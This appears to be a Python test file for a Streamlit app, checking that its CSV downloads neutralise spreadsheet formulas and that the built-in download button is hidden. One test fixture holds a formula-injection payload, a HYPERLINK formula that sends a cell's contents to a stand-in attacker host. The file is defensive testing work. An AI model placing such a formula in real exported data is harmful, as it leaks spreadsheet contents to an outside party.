"""Data frames that show user text (issue 16): Streamlit's own CSV download is hidden on every
page (it writes formulas as typed) and ui.widgets.data_table offers ours, neutralised."""

from __future__ import annotations

from unittest import mock

import pandas as pd

from ui import theme, widgets


def test_streamlits_own_csv_download_is_hidden_on_every_page():
    # The selector was checked in Chromium against Streamlit 1.67's element toolbar: the button
    # labelled "Download as CSV" is hidden, "Search" and "Fullscreen" stay.
    assert (
        '[data-testid="stElementToolbarButton"]:has(button[aria-label="Download as CSV"])'
        in theme.GLOBAL_CSS
    )
    assert "display: none" in theme.GLOBAL_CSS


def test_data_table_offers_a_csv_with_formulas_neutralised():
    frame = pd.DataFrame({"Answer": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "fine"]})
    with mock.patch.object(widgets, "st") as st:
        widgets.data_table(frame.style, download="answers.csv", key="t")
    st.dataframe.assert_called_once()
    assert st.dataframe.call_args.kwargs["hide_index"] is True
    data = st.download_button.call_args.kwargs["data"].decode("utf-8-sig")
    assert "'=HYPERLINK" in data
    assert "\n=HYPERLINK" not in data and ",=HYPERLINK" not in data
    assert st.download_button.call_args.kwargs["file_name"] == "answers.csv"


def test_data_table_takes_a_plain_frame_even_with_a_column_named_data():
    frame = pd.DataFrame({"data": ["+1", "x"], "other": ["@a", "b"]})
    with mock.patch.object(widgets, "st") as st:
        widgets.data_table(frame, download="d.csv")
    data = st.download_button.call_args.kwargs["data"].decode("utf-8-sig")
    assert data.splitlines()[0] == "data,other"
    assert "'+1,'@a" in data


def test_an_empty_cell_reads_empty_in_a_table_and_in_an_editor():
    frame = pd.DataFrame({"Backup": [None, "Ana"]})
    with mock.patch.object(widgets, "st") as st:
        widgets.data_table(frame)
        widgets.data_table(frame, editable=True, key="grid")
    assert st.dataframe.call_args.kwargs["placeholder"] == ""
    assert st.data_editor.call_args.kwargs["placeholder"] == ""
    assert st.data_editor.call_args.kwargs["key"] == "grid"
